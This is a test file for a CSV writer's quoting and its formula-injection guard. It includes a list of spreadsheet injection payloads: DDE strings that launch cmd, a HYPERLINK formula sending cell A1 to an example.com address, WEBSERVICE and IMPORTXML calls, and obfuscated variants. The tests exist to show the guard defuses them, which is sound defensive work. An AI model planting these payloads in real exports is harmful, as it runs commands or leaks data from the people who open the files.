import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readText } from '#shared/table/read-csv.ts';
import { csvLine, guardFormula, writeCsv } from '#shared/table/write-csv.ts';

test.each([
  ['plain cells stand as they are', ['Ann', 'Lee', '+12025550123'], 'Ann,Lee,+12025550123'],
  ['a comma needs quotes', ['Lee, Ann'], '"Lee, Ann"'],
  ['a quote is doubled', ['5" pipe'], '"5"" pipe"'],
  ['line breaks stay inside quotes', ['a\nb', 'a\rb', 'a\r\nb'], '"a\nb","a\rb","a\r\nb"'],
  ['other delimiters too: who guesses must not guess from a cell', ['a;b', 'a\tb', 'a|b'], '"a;b","a\tb","a|b"'],
  ['outer blanks are kept by quotes', [' a', 'a '], '" a","a "'],
  ['a byte order mark is no mark inside quotes', ['\uFEFFName'], '"\uFEFFName"'],
  ['a header that looks like the name of the delimiter', ['SEP=x'], '"SEP=x"'],
  ['empty cells', ['', '', ''], ',,'],
])('writing: %s', (_rule, cells, line) => {
  expect(csvLine(cells)).toBe(`${line}\r\n`);
});

test('a whole table, with another delimiter', () => {
  expect(writeCsv(['Name', 'City'], [['Ann', 'A;B'], ['Bob']], { delimiter: ';' })).toBe('Name;City\r\nAnn;"A;B"\r\nBob\r\n');
});

/** Written after the list OWASP gives under "CSV Injection" and what spreadsheets are known to take for a formula. */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com/?x="&A1,"click")',
  '=IMPORTXML("https://example.com","//a")',
  '=WEBSERVICE("https://example.com")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\0=1+1',
  '\0 \0=1+1',
  '＝1+1',
  '＋1+A1',
  '－1+A1',
  '＠SUM(A1)',
  '+A1',
  '-A1',
  '=',
  '@ann',
];

test.each(PAYLOADS)('a spreadsheet cannot run %j, wherever it stands', (payload) => {
  for (const position of [0, 1, 2, 3, 4, 5]) {
    const cells = ['a', 'b', 'c', 'd', 'e', 'f'].with(position, payload);
    const table = readText(writeCsv(cells, [cells], { guard: true }), { delimiter: ',' });
    const read = table.ok ? [table.value.headers, ...table.value.rows] : [];
    expect(read).toHaveLength(2);
    for (const row of read) expect(row[position]).toBe(`'${payload.replaceAll('\0', '')}`);
  }
});

test.each([
  ['+12025550123', 'a phone'],
  ['+44 20 7946 0018', 'a phone'],
  ['+1 (202) 555-0123', 'a phone'],
  ['-12.5', 'a number'],
  ['- 3', 'a number'],
  ['Ann', 'a word'],
  ["O'Brien", 'an apostrophe inside'],
  ["'s-Hertogenbosch", 'an apostrophe in front of a letter'],
  ['a=b', 'a sign further on'],
  ['ann@example.com', 'an address'],
  ['', 'nothing'],
  [' ', 'a blank'],
])('%j stays as it is: %s is no formula', (text) => {
  expect(guardFormula(text)).toBe(text);
});

test.each([
  ["'=1+1", "''=1+1", 'a guarded formula'],
  ["'+12025550123", "''+12025550123", 'a phone some export has guarded'],
  ["'2025550123", "''2025550123", 'a number some export has guarded'],
  ["''-", "'''-", 'two'],
  ['+', "'+", 'a sign without a digit'],
  ['-()', "'-()", 'signs without a digit'],
])('%j becomes %j, so that taking one apostrophe off gives it back (%s)', (text, guarded) => {
  expect(guardFormula(text)).toBe(guarded);
});

/** What a reader does: one apostrophe goes where the rest of them, blanks aside, stand before a formula or a digit. */
const GUARDED = /^'+(?:[ \u00a0\0]*[=+\-@\t\r\n＝＋－＠]|\d)/;
function unguard(text: string): string {
  return GUARDED.test(text) ? text.slice(1) : text;
}

test('whatever is guarded comes back unchanged, and is guarded before anything a spreadsheet runs', () => {
  const starts = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\n', '\r', ' ', '\0', '1', '(', '.', '＝', 'a') });
  const text = fc.tuple(starts, fc.string({ unit: 'binary' })).map((parts) => parts.join(''));
  fc.assert(
    fc.property(text, (original) => {
      const guarded = guardFormula(original);
      expect(unguard(guarded)).toBe(original);
      const isPlainNumber = /^[+-]?[\d ().\-/]+$/.test(guarded) && /\d/.test(guarded);
      expect(isPlainNumber || !/^[\s\0]*[=+\-@＝＋－＠]/.test(guarded) || /^[\s\0]*$/.test(guarded)).toBe(true);
    }),
    { numRuns: 2_000 },
  );
});
